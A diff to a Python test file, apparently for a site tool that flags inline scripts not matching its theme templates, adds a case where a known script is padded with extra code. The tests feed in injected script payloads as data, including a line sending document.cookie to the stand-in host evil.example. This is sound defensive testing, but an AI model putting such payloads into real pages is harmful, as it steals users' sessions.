@@ -119,6 +119,9 @@ def test_only_the_theme_templates_scripts_are_recognised(site):
     forged = palette.replace('new URL("', 'new URL(alert(1)+"', 1)
     assert forged != palette and unrecognised_scripts(f"<script>{forged}</script>", patterns) == [forged]
     assert unrecognised_scripts("<script>fetch('//evil.example/'+document.cookie)</script>", patterns)
+    # A template's script with more around it is not that script.
+    padded = palette + ";fetch('//evil.example/')"
+    assert unrecognised_scripts(f"<script>{padded}</script>", patterns) == [padded]
 
 
 def test_the_server_config_refuses_a_site_with_a_script_of_its_own(site, tmp_path):
